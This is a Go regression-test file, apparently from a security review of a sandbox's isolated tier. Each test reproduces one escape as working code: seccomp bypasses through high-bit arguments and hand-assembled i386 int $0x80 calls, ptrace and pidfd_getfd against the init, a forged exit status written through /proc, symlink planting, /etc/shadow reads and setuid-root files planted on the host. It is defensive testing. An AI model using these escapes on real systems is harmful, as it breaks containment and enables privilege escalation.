package isolated_test

// Review 2 of the isolated tier: each test below demonstrates one escape or
// guarantee violation and FAILS while the bug is present.
//
// Attacks that need real system calls run this test binary inside the
// sandbox with HUTCH_R2 naming the attack (see r2Init); they print what
// happened and "r2 NAME done".

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
	"unsafe"

	"golang.org/x/net/bpf"
	"golang.org/x/sys/unix"

	"github.com/hutchsandbox/hutch/policy"
	"github.com/hutchsandbox/hutch/sandbox"
	"github.com/hutchsandbox/hutch/sandbox/isolated"
)

func init() { r2Init() }

func r2Init() {
	name := os.Getenv("HUTCH_R2")
	if name == "" {
		return
	}
	args := os.Args[len(os.Args)-countArgs():]
	switch name {
	case "unix-hibit":
		r2UnixHiBit(args[0])
	case "int80":
		r2Int80(args[0])
	case "vsock":
		r2Vsock()
	}
	fmt.Printf("r2 %s done\n", name)
	os.Exit(0)
}

// r2attack runs one of the attacks above inside a one-shot sandbox.
func (e *env) r2attack(t *testing.T, pol policy.Policy, name string, args ...string) string {
	t.Helper()
	self, _ := os.Executable()
	r := e.runWith(t, pol, sandbox.Command{Args: append([]string{self, "-test.run=^$"}, args...),
		Env: map[string]string{"HUTCH_R2": name}, Timeout: 10 * time.Second})
	out := string(r.Stdout) + string(r.Stderr)
	if !strings.Contains(out, "r2 "+name+" done") {
		t.Fatalf("attack %s did not run to the end (exit %d): %s", name, r.ExitCode, out)
	}
	return out
}

// tryRun is runWith for attacks whose fix may be a refusal: ok is false
// when the sandbox would not be built (it failed closed).
func (e *env) tryRun(t *testing.T, pol policy.Policy, c sandbox.Command) (sandbox.Result, bool) {
	t.Helper()
	if c.Timeout == 0 {
		c.Timeout = 10 * time.Second
	}
	r, err := isolated.Run(bg, pol, c)
	if err != nil {
		t.Logf("the sandbox was not built (fails closed): %v", err)
		return r, false
	}
	return r, true
}

// hostUnixSocket listens on a unix socket in a fresh directory and reports
// whether anything connected.
func hostUnixSocket(t *testing.T) (dir, path string, connected func() bool) {
	t.Helper()
	dir = t.TempDir()
	path = filepath.Join(dir, "agent.sock")
	ln, err := net.Listen("unix", path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	got := make(chan struct{}, 1)
	go func() {
		if c, err := ln.Accept(); err == nil {
			got <- struct{}{}
			c.Close()
		}
	}()
	return dir, path, func() bool {
		select {
		case <-got:
			return true
		case <-time.After(300 * time.Millisecond):
			return false
		}
	}
}

// ---------------------------------------------------------------------------
// Finding: seccomp compares socket's 64-bit argument, the kernel reads an
// int. socket(1<<32|AF_UNIX, ...) passes the filter and makes an AF_UNIX
// socket, which connects to a host socket in a readable directory.

func r2UnixHiBit(path string) {
	fd, _, errno := unix.Syscall(unix.SYS_SOCKET, 1<<32|unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if errno != 0 {
		fmt.Println("socket BLOCKED", errno)
		return
	}
	err := unix.Connect(int(fd), &unix.SockaddrUnix{Name: path})
	fmt.Println("socket ALLOWED, connect:", err)
}

func TestReview2UnixSocketHighBits(t *testing.T) {
	e := newEnv(t)
	dir, path, connected := hostUnixSocket(t)
	out := e.r2attack(t, e.pol.Extend(policy.Policy{Read: []string{dir}}), "unix-hibit", path)
	if strings.Contains(out, "ALLOWED") {
		t.Errorf("an AF_UNIX socket was created past seccomp: %s", out)
	}
	if connected() {
		t.Error("the host's unix socket accepted a connection from the sandbox")
	}
}

// ---------------------------------------------------------------------------
// Finding: the seccomp filter only applies to the x86_64 system-call ABI.
// The policy assembler hutch used then jumped every other architecture to
// the policy's default action, which is Allow here, so the i386 ABI
// (int $0x80, available on any x86_64 kernel with IA32 emulation) reached
// every "denied" system call.

// i386 system-call numbers.
const (
	i386Ptrace     = 26
	i386AddKey     = 286
	i386Socket     = 359
	i386Connect    = 362
	i386Userfault  = 374
	i386IoUring    = 425
	i386PidfdOpen  = 434
	i386PidfdGetfd = 438
)

// int80 runs one i386 system call. Its code and every buffer it points to
// live in one page below 4 GiB (the i386 ABI passes 32-bit pointers).
type int80 struct{ page []byte }

func newInt80() (*int80, error) {
	page, err := unix.Mmap(-1, 0, 4096, unix.PROT_READ|unix.PROT_WRITE|unix.PROT_EXEC, unix.MAP_PRIVATE|unix.MAP_ANON|unix.MAP_32BIT)
	if err != nil {
		return nil, err
	}
	base := uint32(uintptr(unsafe.Pointer(&page[0])))
	blk := base + 0x800 // nr, six arguments, result: eight uint32
	le := func(v uint32) []byte { return []byte{byte(v), byte(v >> 8), byte(v >> 16), byte(v >> 24)} }
	code := []byte{0x53, 0x55}                                               // push rbx; push rbp
	for i, modrm := range []byte{0x04, 0x1c, 0x0c, 0x14, 0x34, 0x3c, 0x2c} { // eax ebx ecx edx esi edi ebp
		code = append(code, 0x8b, modrm, 0x25)
		code = append(code, le(blk+uint32(4*i))...)
	}
	code = append(code, 0xcd, 0x80)       // int $0x80
	code = append(code, 0x89, 0x04, 0x25) // mov [blk+28], eax
	code = append(code, le(blk+28)...)    //
	code = append(code, 0x5d, 0x5b, 0xc3) // pop rbp; pop rbx; ret
	copy(page, code)
	return &int80{page: page}, nil
}

// addr returns the 32-bit address of a buffer at off in the page.
func (s *int80) addr(off int) uint32 { return uint32(uintptr(unsafe.Pointer(&s.page[off]))) }

func (s *int80) call(nr uint32, args ...uint32) int32 {
	blk := (*[8]uint32)(unsafe.Pointer(&s.page[0x800]))
	blk[0] = nr
	for i := 1; i < 7; i++ {
		blk[i] = 0
		if i-1 < len(args) {
			blk[i] = args[i-1]
		}
	}
	code := uintptr(unsafe.Pointer(&s.page[0]))
	fv := &code
	fn := *(*func())(unsafe.Pointer(&fv))
	fn()
	return int32(blk[7])
}

func r2Int80(path string) {
	s, err := newInt80()
	if err != nil {
		fmt.Println("no int80 page:", err)
		return
	}
	report := func(name string, r int32) {
		if r < 0 {
			fmt.Println(name, "BLOCKED", unix.Errno(-r))
		} else {
			fmt.Println(name, "ALLOWED", r)
		}
	}
	// AF_UNIX socket and a connection to the host's socket.
	fd := s.call(i386Socket, unix.AF_UNIX, unix.SOCK_STREAM, 0)
	report("socket-unix", fd)
	if fd >= 0 {
		sa := s.page[0x400 : 0x400+110]
		sa[0], sa[1] = unix.AF_UNIX, 0
		copy(sa[2:], path)
		report("connect-host-socket", s.call(i386Connect, uint32(fd), s.addr(0x400), 110))
	}
	// A keyring, userfaultfd (user-mode only) and io_uring.
	copy(s.page[0x300:], "user\x00hutch\x00x")
	report("add_key", s.call(i386AddKey, s.addr(0x300), s.addr(0x305), s.addr(0x30b), 1, ^uint32(1))) // KEY_SPEC_PROCESS_KEYRING = -2
	report("userfaultfd", s.call(i386Userfault, 1))                                                   // UFFD_USER_MODE_ONLY
	report("io_uring_setup", s.call(i386IoUring, 1, s.addr(0x100)))
	// ptrace of the thread that started us: in a one-shot run that is a
	// thread of the sandbox's init, whose other threads keep every
	// capability of the user namespace and the control socket.
	ppid := os.Getppid()
	ents, _ := os.ReadDir(fmt.Sprintf("/proc/%d/task", ppid))
	for _, en := range ents {
		tid, _ := strconv.Atoi(en.Name())
		r := s.call(i386Ptrace, unix.PTRACE_ATTACH, uint32(tid), 0, 0)
		if r == 0 {
			report(fmt.Sprintf("ptrace-parent-thread %d", tid), r)
			var ws unix.WaitStatus
			unix.Wait4(tid, &ws, unix.WALL, nil)
			s.call(i386Ptrace, unix.PTRACE_DETACH, uint32(tid), 0, 0)
		}
	}
	// pidfd_getfd: take a copy of the init's control socket (fd 3) from
	// that same thread.
	for _, en := range ents {
		tid, _ := strconv.Atoi(en.Name())
		pfd := s.call(i386PidfdOpen, uint32(tid), unix.PIDFD_THREAD)
		if pfd < 0 {
			continue
		}
		if r := s.call(i386PidfdGetfd, uint32(pfd), 3, 0); r >= 0 {
			link, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", r))
			report("pidfd_getfd-init-fd3 "+link, r)
			break
		}
	}
}

// loadedSeccomp reads the seccomp program a sandboxed command really runs
// under, from the kernel (PTRACE_SECCOMP_GET_FILTER, as the host's root).
func loadedSeccomp(t *testing.T, e *env) []bpf.Instruction {
	t.Helper()
	sb, err := isolated.New(bg, e.pol)
	if err != nil {
		t.Fatal(err)
	}
	defer sb.Close()
	marker := fmt.Sprintf("7.%06d", time.Now().UnixNano()%1e6)
	go sb.Exec(bg, sandbox.Command{Args: []string{"sleep", marker}, Timeout: 10 * time.Second})
	pid := 0
	for deadline := time.Now().Add(5 * time.Second); pid == 0 && time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
		ents, _ := os.ReadDir("/proc")
		for _, en := range ents {
			if b, err := os.ReadFile("/proc/" + en.Name() + "/cmdline"); err == nil && string(b) == "sleep\x00"+marker+"\x00" {
				pid, _ = strconv.Atoi(en.Name())
			}
		}
	}
	if pid == 0 {
		t.Fatal("the sandboxed sleep did not show up")
	}
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	if err := unix.PtraceAttach(pid); err != nil {
		t.Skipf("cannot ptrace the sandboxed command from the host: %v", err)
	}
	defer unix.PtraceDetach(pid)
	var ws unix.WaitStatus
	if _, err := unix.Wait4(pid, &ws, unix.WALL, nil); err != nil {
		t.Fatal(err)
	}
	const ptraceSeccompGetFilter = 0x420c
	n, _, errno := unix.Syscall6(unix.SYS_PTRACE, ptraceSeccompGetFilter, uintptr(pid), 0, 0, 0, 0)
	if errno != 0 {
		t.Skipf("PTRACE_SECCOMP_GET_FILTER: %v", errno)
	}
	raw := make([]unix.SockFilter, n)
	if _, _, errno := unix.Syscall6(unix.SYS_PTRACE, ptraceSeccompGetFilter, uintptr(pid), 0, uintptr(unsafe.Pointer(&raw[0])), 0, 0); errno != 0 {
		t.Fatal(errno)
	}
	insts := make([]bpf.Instruction, len(raw))
	for i, r := range raw {
		insts[i] = bpf.RawInstruction{Op: r.Code, Jt: r.Jt, Jf: r.Jf, K: r.K}.Disassemble()
	}
	return insts
}

// seccompVerdict runs that program on one system call as the kernel would
// (x/net/bpf's VM reads words big-endian, so each 32-bit slot of
// seccomp_data is written that way).
func seccompVerdict(t *testing.T, prog []bpf.Instruction, auditArch, nr uint32, args ...uint64) uint32 {
	t.Helper()
	vm, err := bpf.NewVM(prog)
	if err != nil {
		t.Fatal(err)
	}
	data := make([]byte, 64)
	binary.BigEndian.PutUint32(data[0:], nr)
	binary.BigEndian.PutUint32(data[4:], auditArch)
	for i, a := range args {
		binary.BigEndian.PutUint32(data[16+8*i:], uint32(a))     // low word first (little-endian machine)
		binary.BigEndian.PutUint32(data[20+8*i:], uint32(a>>32)) // then the high word
	}
	v, err := vm.Run(data)
	if err != nil {
		t.Fatal(err)
	}
	return uint32(v)
}

func TestReview2SeccompI386ABI(t *testing.T) {
	const (
		auditArchX8664 = 0xc000003e
		auditArchI386  = 0x40000003
		allow          = 0x7fff0000
	)
	e := newEnv(t)
	prog := loadedSeccomp(t, e)
	// Control: the x86_64 mount (165) and ptrace (101) are refused.
	for _, nr := range []uint32{165, 101} {
		if v := seccompVerdict(t, prog, auditArchX8664, nr); v == allow {
			t.Fatalf("control: x86_64 syscall %d allowed", nr)
		}
	}
	if v := seccompVerdict(t, prog, auditArchX8664, unix.SYS_SOCKET, unix.AF_UNIX); v == allow {
		t.Fatal("control: x86_64 socket(AF_UNIX) allowed")
	}
	if v := seccompVerdict(t, prog, auditArchX8664, unix.SYS_SOCKET, unix.AF_INET); v != allow {
		t.Fatal("control: x86_64 socket(AF_INET) refused")
	}
	// The same calls through the i386 ABI (int $0x80): mount 21, ptrace 26,
	// unshare 310, socket 359 (AF_UNIX), keyctl 288, bpf 357, io_uring 425,
	// pidfd_getfd 438.
	for name, nr := range map[string]uint32{"mount": 21, "ptrace": 26, "unshare": 310, "socket(AF_UNIX)": 359,
		"keyctl": 288, "bpf": 357, "io_uring_setup": 425, "pidfd_getfd": 438} {
		if v := seccompVerdict(t, prog, auditArchI386, nr, unix.AF_UNIX); v == allow {
			t.Errorf("i386 %s (%d) passes the seccomp filter", name, nr)
		}
	}
	// And for real where the kernel runs i386 system calls (IA32
	// emulation, on by default in distribution kernels).
	dir, path, connected := hostUnixSocket(t)
	self, _ := os.Executable()
	r := e.runWith(t, e.pol.Extend(policy.Policy{Read: []string{dir}}), sandbox.Command{Args: []string{self, "-test.run=^$", path},
		Env: map[string]string{"HUTCH_R2": "int80"}, Timeout: 10 * time.Second})
	out := string(r.Stdout) + string(r.Stderr)
	switch {
	case strings.Contains(out, "fatal error: fault") && !strings.Contains(out, "ALLOWED"):
		t.Logf("this kernel does not run int $0x80 (no IA32 emulation): the filter verdicts above stand for the rest")
	case strings.Contains(out, "ALLOWED"):
		t.Errorf("denied system calls succeeded through the i386 ABI:\n%s", out)
	}
	if connected() {
		t.Error("the host's unix socket accepted a connection from the sandbox")
	}
}

// ---------------------------------------------------------------------------
// Finding: network "none" leaves AF_VSOCK open. vsock is not confined by the
// network namespace: on a VM (Firecracker, WSL2, cloud guests with
// virtio-vsock) the command can connect to services of the hypervisor host
// and listen for it.

func r2Vsock() {
	// Only the socket: the other side of vsock is the hypervisor's.
	fd, err := unix.Socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0)
	if err != nil {
		fmt.Println("vsock socket BLOCKED", err)
		return
	}
	unix.Close(fd)
	fmt.Println("vsock socket ALLOWED")
}

func TestReview2VsockWithNetworkNone(t *testing.T) {
	e := newEnv(t)
	if _, err := os.Stat("/dev/vsock"); err != nil {
		t.Skip("no vsock transport on this host")
	}
	out := e.r2attack(t, e.pol, "vsock")
	if strings.Contains(out, "ALLOWED") {
		t.Errorf("network none, yet an AF_VSOCK socket (to the hypervisor host) works: %s", out)
	}
}

// ---------------------------------------------------------------------------
// Finding: a command forges its own result in a session. The exec helper
// confines only the thread that starts the command; through that thread's
// /proc/PID/task/TID entry (same uid, no capabilities, same Landlock
// domain: ptrace access is granted) the command reopens the helper's
// status pipe, fd 4, and writes its own status. The init then cannot parse
// two records and falls back to the helper's exit code: 0.

const forgeScript = `for p in /proc/[0-9]*; do
  case "$(tr '\0' ' ' < $p/cmdline)" in hutch-sandbox-exec*) H=${p#/proc/};; esac
done
T=$(grep -l 'CapEff:.0000000000000000' /proc/$H/task/*/status | head -1 | xargs dirname)
printf '{"exited":true,"exit_code":0}' > $T/fd/4 && echo FORGED
exit 3`

func TestReview2ForgedStatusThroughProc(t *testing.T) {
	e := newEnv(t)
	sb, err := isolated.New(bg, e.pol)
	if err != nil {
		t.Fatal(err)
	}
	defer sb.Close()
	r, err := sb.Exec(bg, sandbox.Command{Shell: forgeScript, Timeout: 10 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	if r.ExitCode != 3 {
		t.Errorf("the command exited 3 but the result says %d (stdout %q, stderr %q)", r.ExitCode, r.Stdout, r.Stderr)
	}
}

// ---------------------------------------------------------------------------
// Finding: denied paths are masked by name when the sandbox is built. A
// command that may write the parent of a denied path renames it (only the
// mask itself is a mount point); the next sandbox with the same policy
// finds nothing at the denied name and masks nothing, so the secret is
// readable at its new name.

func TestReview2DenyDefeatedByRenamingTheParent(t *testing.T) {
	e := newEnv(t)
	os.MkdirAll(filepath.Join(e.work, "config"), 0o755)
	os.WriteFile(filepath.Join(e.work, "config", "secret.env"), []byte("PASSWORD=hunter2"), 0o644)
	os.MkdirAll(filepath.Join(e.work, "data", "keys"), 0o755)
	os.WriteFile(filepath.Join(e.work, "data", "keys", "id"), []byte("PRIVATE-KEY"), 0o644)
	pol := e.pol.Extend(policy.Policy{Deny: []string{filepath.Join(e.work, "config", "secret.env"), filepath.Join(e.work, "data", "keys")}})
	// Control: denied in the first sandbox.
	r := e.runWith(t, pol, sh("cat config/secret.env; ls data/keys; mv config config2 && mv data data2 && echo MOVED"))
	if strings.Contains(string(r.Stdout), "hunter2") || strings.Contains(string(r.Stdout), "id") {
		t.Fatalf("control: denied content visible: %q", r.Stdout)
	}
	t.Logf("first sandbox: %q %q", r.Stdout, r.Stderr)
	// The same policy, a new sandbox.
	r, ok := e.tryRun(t, pol, sh("cat config2/secret.env; echo; cat data2/keys/id"))
	if ok && strings.Contains(string(r.Stdout), "hunter2") || strings.Contains(string(r.Stdout), "PRIVATE-KEY") {
		t.Errorf("denied content read in the next sandbox with the same policy: %q", r.Stdout)
	}
}

// ---------------------------------------------------------------------------
// Finding: bindPath resolves a policy path on the host with symbolic links
// followed in every component but the last. A command that may write a
// parent of a more specific policy path (here the workspace, with
// lib/data readable inside it) replaces a component with a relative link;
// the next sandbox binds whatever host directory the link names, and
// Landlock (opened through the same links) allows it too. (The link's
// target must also exist in the half-built new root, which holds "/" and
// every ancestor of a policy path: "..", "../..", ... all qualify.) With
// a nested writable path the same trick gives write access.

func TestReview2NestedBindFollowsPlantedSymlink(t *testing.T) {
	e := newEnv(t)
	os.MkdirAll(filepath.Join(e.work, "lib", "data"), 0o755)
	// A host directory outside the policy: a sibling of the workspace.
	secretDir := filepath.Join(filepath.Dir(e.work), "data")
	os.MkdirAll(secretDir, 0o755)
	os.WriteFile(filepath.Join(secretDir, "host-secret"), []byte("TOP-SECRET-2"), 0o644)
	pol := e.pol.Extend(policy.Policy{Read: []string{filepath.Join(e.work, "lib", "data")}})
	if r := e.runWith(t, pol, sh("cat ../data/host-secret")); strings.Contains(string(r.Stdout), "TOP-SECRET-2") {
		t.Fatal("control: the sibling directory is visible without the link")
	}
	r := e.runWith(t, pol, sh("mv lib lib.orig && ln -s .. lib && echo PLANTED"))
	if !strings.Contains(string(r.Stdout), "PLANTED") {
		if strings.Contains(string(r.Stderr), "busy") {
			return // the directories above a nested policy path are pinned: fixed
		}
		t.Fatalf("could not plant the link: %q %q", r.Stdout, r.Stderr)
	}
	// The next sandbox refuses to build (the policy path now goes through
	// a link) rather than bind what the link names.
	r, err := isolated.Run(bg, pol, sh("cat lib/data/host-secret"))
	if err == nil && strings.Contains(string(r.Stdout), "TOP-SECRET-2") {
		t.Errorf("a host directory outside the policy was bound into the sandbox: %q", r.Stdout)
	}
	if err != nil && !strings.Contains(err.Error(), "symbolic link") {
		t.Errorf("refused, but without saying why: %v", err)
	}
}

// ---------------------------------------------------------------------------
// Finding: New hangs forever when the sandbox cannot be built or its
// context ends during setup. On any error after the init started, New
// calls s.Close, which waits for the control socket's EOF; but New itself
// still holds the init's end (sandboxEnd, closed only by New's deferred
// Close), so EOF never comes. A command can arrange the failure for the
// next sandbox: here it replaces a denied file with a link to a directory
// (deny then bind-mounts a file on a directory: ENOTDIR).

func newWithin(pol policy.Policy, ctx context.Context, d time.Duration) (returned bool, err error) {
	done := make(chan error, 1)
	go func() {
		sb, err := isolated.New(ctx, pol)
		if sb != nil {
			sb.Close()
		}
		done <- err
	}()
	select {
	case err := <-done:
		return true, err
	case <-time.After(d):
		return false, nil // the goroutine stays blocked: that is the bug
	}
}

func TestReview2NewHangsOnSetupError(t *testing.T) {
	e := newEnv(t)
	os.MkdirAll(filepath.Join(e.work, "sub"), 0o755)
	os.Symlink("sub", filepath.Join(e.work, ".env")) // what a command may leave behind
	pol := e.pol.Extend(policy.Policy{Deny: []string{filepath.Join(e.work, ".env")}})
	if ok, err := newWithin(pol, bg, 5*time.Second); !ok {
		t.Error("New did not return within 5 s after the sandbox failed to build")
	} else {
		t.Logf("New: %v", err)
	}
	ctx, cancel := context.WithCancel(bg)
	cancel()
	if ok, err := newWithin(e.pol, ctx, 5*time.Second); !ok {
		t.Error("New with a cancelled context did not return within 5 s")
	} else {
		t.Logf("New (cancelled): %v", err)
	}
}

// ---------------------------------------------------------------------------
// Finding: with "/" readable, remountTree finds no mount to make read-only
// (dst is "/newroot/", so neither "mp == dst" nor the "dst/" prefix ever
// matches): every host submount stays writable in the sandbox's mount
// layer, and only the top mount becomes read-only later by accident. The
// command is still stopped by Landlock, but the init is not Landlocked:
// write_file writes the host's file in a read-only policy.

func TestReview2ReadRootLeavesSubmountsWritable(t *testing.T) {
	newEnv(t)
	dir := t.TempDir()
	if err := unix.Mount("tmpfs", dir, "tmpfs", 0, "size=1m"); err != nil {
		t.Skipf("cannot mount a host tmpfs for the test: %v", err)
	}
	defer unix.Unmount(dir, unix.MNT_DETACH)
	pol := policy.Default().Extend(policy.Policy{Read: []string{"/"}, Dir: dir})
	sb, err := isolated.New(bg, pol)
	if errors.Is(err, sandbox.ErrConfig) && strings.Contains(err.Error(), "whole host") {
		return // refusing a policy that reads "/" is a fix too
	}
	if err != nil {
		t.Fatal(err)
	}
	defer sb.Close()
	r, _ := sb.Exec(bg, sandbox.Command{Shell: "grep ' " + dir + " ' /proc/self/mountinfo", Timeout: 10 * time.Second})
	if strings.Contains(string(r.Stdout), " rw,") {
		t.Errorf("a host mount under a read-only policy path is writable in the sandbox: %s", r.Stdout)
	}
	if err := sb.Write(bg, "written-by-file-tool", []byte("x")); err == nil {
		t.Error("write_file changed a host directory the policy only reads")
	}
	if _, err := os.Stat(filepath.Join(dir, "written-by-file-tool")); err == nil {
		t.Error("the file is on the host")
	}
}

// ---------------------------------------------------------------------------
// Finding: hutch running as root maps the sandbox's root to the host's
// root. With no capability it still owns every root-owned file: under the
// default policy (which reads /etc) it reads /etc/shadow and the SSH host
// keys, which no unprivileged user can; and only Landlock stops it from
// writing root-owned /proc/sys entries such as kernel/core_pattern.

func TestReview2RootOwnedSecretsReadable(t *testing.T) {
	e := newEnv(t)
	if os.Getuid() != 0 {
		t.Skip("hutch is not running as root")
	}
	fi, err := os.Stat("/etc/shadow")
	if err != nil || fi.Mode().Perm()&0o004 != 0 {
		t.Skip("no private /etc/shadow here")
	}
	r := e.run(t, sh("head -c 5 /etc/shadow && echo && echo READ-SHADOW; id"))
	if strings.Contains(string(r.Stdout), "READ-SHADOW") {
		t.Errorf("the sandbox reads the host's /etc/shadow (mode %v): %q", fi.Mode().Perm(), r.Stdout)
	}
}

// ---------------------------------------------------------------------------
// Finding: cancelling an Exec can leave the command running. The host sends
// "cancel" right after "exec"; the init handles each request in its own
// goroutine and registers the exec only after the helper has started, so a
// cancel that arrives first finds nothing to kill and is dropped. Exec has
// returned context.Canceled, yet the command runs to the end (up to the
// policy's timeout, 120 s by default) and changes files.

func TestReview2CancelledExecKeepsRunning(t *testing.T) {
	e := newEnv(t)
	sb, err := isolated.New(bg, e.pol)
	if err != nil {
		t.Fatal(err)
	}
	defer sb.Close()
	// The race is the init's: a few tries make it show.
	for i := range 5 {
		ctx, cancel := context.WithCancel(bg)
		cancel()
		marker := fmt.Sprintf("after-cancel-%d.txt", i)
		_, xerr := sb.Exec(ctx, sandbox.Command{Shell: "sleep 1; echo ran > " + marker})
		if xerr == nil {
			continue
		}
		time.Sleep(1500 * time.Millisecond)
		if _, err := os.Stat(filepath.Join(e.work, marker)); err == nil {
			t.Fatalf("try %d: Exec returned %q, yet the command kept running and wrote a file a second later", i, xerr)
		}
	}
}

// ---------------------------------------------------------------------------
// Finding: the process limit fails open on a host with a memory cgroup but
// no pids controller (cgroup v1 without pids, as on older kernels and some
// container hosts). newCgroup returns a group (memory only), so New's
// "refuse a process limit that rlimits cannot enforce for root" check never
// runs; the exec helper sets RLIMIT_NPROC, which the kernel ignores for the
// host's root, and the fork bomb is unbounded. The test hides the pids
// hierarchy in a private mount namespace (unshare -m) and reruns itself
// there.

func TestReview2ProcessLimitFailsOpenWithoutPidsController(t *testing.T) {
	if os.Getenv("HUTCH_R2_INNER") == "pids" {
		e := newEnv(t)
		pol := e.pol.Extend(policy.Policy{Limits: policy.Limits{Processes: 16}})
		r, err := isolated.Run(bg, pol, sandbox.Command{Shell: "i=0; while [ $i -lt 60 ]; do sleep 3 & i=$((i+1)); done; echo alive $(ls -d /proc/[0-9]* | wc -l)", Timeout: 10 * time.Second})
		if errors.Is(err, sandbox.ErrUnsupported) {
			fmt.Printf("INNER refused: %v\n", err) // refusing is the right answer
			return
		}
		if err != nil {
			t.Fatal(err)
		}
		n, _ := strconv.Atoi(strings.TrimSpace(strings.TrimPrefix(strings.TrimSpace(string(r.Stdout)), "alive")))
		fmt.Printf("INNER processes=%d limit=%q exit=%d\n", n, r.Limit, r.ExitCode)
		if n > 20 {
			t.Errorf("%d processes alive at once under a limit of 16", n)
		}
		return
	}
	newEnv(t)
	if os.Getuid() != 0 {
		t.Skip("needs root (as hutch runs in CI and containers)")
	}
	if _, err := os.Stat("/sys/fs/cgroup/memory/cgroup.procs"); err != nil {
		t.Skip("no cgroup v1 memory hierarchy here")
	}
	if _, err := exec.LookPath("unshare"); err != nil {
		t.Skip("no unshare(1)")
	}
	self, _ := os.Executable()
	c := exec.Command("unshare", "-m", "--propagation", "private", "sh", "-c",
		`mount -t tmpfs none /sys/fs/cgroup/pids && exec "$0" -test.run='^TestReview2ProcessLimitFailsOpenWithoutPidsController$' -test.v`, self)
	c.Env = append(os.Environ(), "HUTCH_R2_INNER=pids")
	out, err := c.CombinedOutput()
	if !strings.Contains(string(out), "INNER") {
		t.Fatalf("inner run failed: %v\n%s", err, out)
	}
	if err != nil {
		t.Errorf("without a pids controller the process limit is not enforced (New did not refuse either):\n%s", out)
	}
}

// ---------------------------------------------------------------------------
// Finding: the sandbox's control groups are made at the top of each
// hierarchy (/sys/fs/cgroup/memory/hutch-…), not below the group hutch
// itself runs in. Moving the init there takes the whole sandbox out of the
// limits the host put on hutch (a container's or a systemd unit's memory
// and pids budget): a policy limit of 1 GiB escapes a 256 MiB container.

func ownCgroup(controller string) string {
	b, _ := os.ReadFile("/proc/self/cgroup")
	for _, line := range strings.Split(string(b), "\n") {
		parts := strings.SplitN(line, ":", 3)
		if len(parts) == 3 && (parts[1] == controller || strings.Contains(","+parts[1]+",", ","+controller+",")) {
			return parts[2]
		}
	}
	return ""
}

func TestReview2CgroupEscapesHutchsOwnGroup(t *testing.T) {
	e := newEnv(t)
	own := ownCgroup("memory")
	if own == "" || own == "/" {
		t.Skip("hutch runs in the root memory cgroup here: nothing to escape")
	}
	pol := e.pol.Extend(policy.Policy{Limits: policy.Limits{Memory: 1 << 30}})
	r := e.runWith(t, pol, sh("grep ':memory:' /proc/self/cgroup"))
	got := strings.TrimSpace(strings.TrimPrefix(strings.TrimSpace(string(r.Stdout)), strings.SplitN(string(r.Stdout), ":", 3)[0]+":memory:"))
	if !strings.HasPrefix(got, own+"/") {
		t.Errorf("hutch runs in memory cgroup %s, its sandbox in %s: outside hutch's own limits", own, got)
	}
}

// ---------------------------------------------------------------------------
// Finding (same root cause as the forged status): in a one-shot run the
// command's parent is the init itself, and the thread that started it is
// confined alone. Through /proc/1/task/TID the command reads the init's
// memory (and lists its descriptors: the control socket, host cgroup files
// the Go runtime keeps open). Only the missing ptrace and Landlock's
// refusal of writes under /proc stop it from writing there; with ptrace
// through the i386 ABI (see TestReview2SeccompI386ABI) it can take over
// the init, whose other threads hold every capability, no Landlock
// domain, and the control socket.

func TestReview2InitMemoryReadable(t *testing.T) {
	e := newEnv(t)
	r := e.run(t, sh(`for m in /proc/1/task/*/mem; do
  if dd if=$m bs=4 count=1 skip=1048576 2>/dev/null | grep -q ELF; then echo "READ $m"; fi
done; ls -l /proc/1/task/*/fd 2>/dev/null | grep -c socket`))
	if strings.Contains(string(r.Stdout), "READ") {
		t.Errorf("the command reads the init's memory: %q", r.Stdout)
	}
}

// ---------------------------------------------------------------------------
// Finding: when hutch runs as root, a sandboxed command ("root with no
// power outside") creates set-user-ID-root executables on the host: it is
// the owner of what it writes (uid 0), so chmod 4755 keeps the bit. nosuid
// on the sandbox's binds and no_new_privs only protect the sandbox; on the
// host, anyone who can reach the workspace runs the planted file as root.

func TestReview2SetuidRootPlantedOnHost(t *testing.T) {
	e := newEnv(t)
	if os.Getuid() != 0 {
		t.Skip("hutch is not running as root")
	}
	r := e.run(t, sh("cp /usr/bin/id ./rootid && chmod 4755 ./rootid && echo PLANTED"))
	if !strings.Contains(string(r.Stdout), "PLANTED") {
		// Refused (the fix); check the other ways to the same bits too.
		if !strings.Contains(string(r.Stderr), "Operation not permitted") {
			t.Fatalf("could not plant, but not because it was refused: %q %q", r.Stdout, r.Stderr)
		}
		for _, script := range []string{"chmod u+s /tmp/x 2>&1 || true; touch ./y && chmod g+s ./y", "install -m 4755 /usr/bin/id ./z", "umask 0; python3 -c \"import os; os.close(os.open('w', os.O_CREAT|os.O_WRONLY, 0o4755))\""} {
			r := e.run(t, sh(script))
			for _, name := range []string{"y", "z", "w"} {
				if fi, err := os.Stat(filepath.Join(e.work, name)); err == nil && fi.Mode()&(os.ModeSetuid|os.ModeSetgid) != 0 {
					t.Errorf("%q made a set-ID file %s (%v): %s", script, name, fi.Mode(), r.Stderr)
				}
			}
		}
		return
	}
	fi, err := os.Stat(filepath.Join(e.work, "rootid"))
	if err != nil {
		t.Fatal(err)
	}
	st := fi.Sys().(*syscall.Stat_t)
	if fi.Mode()&os.ModeSetuid != 0 && st.Uid == 0 {
		t.Errorf("the sandbox left a set-user-ID-root executable on the host: %v uid %d", fi.Mode(), st.Uid)
		// Show it: an unprivileged host user runs it.
		os.Chmod(e.work, 0o755)
		os.Chmod(filepath.Dir(e.work), 0o755)
		c := exec.Command(filepath.Join(e.work, "rootid"))
		c.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
		out, err := c.CombinedOutput()
		t.Logf("run by uid 65534 on the host: %s %v", out, err)
	}
}

// ---------------------------------------------------------------------------
// Findings on hosts without memory cgroups (not root and no delegated
// subtree: the usual developer machine), where the memory limit becomes
// RLIMIT_DATA. The test hides the cgroup hierarchies in a private mount
// namespace (unshare -m) and reruns itself there.
//
//  1. In a one-shot run (isolated.Run, "hutch run") the init confines
//     itself and applies the limits to its own process: its Go runtime
//     already holds more private writable memory than a small limit, so its
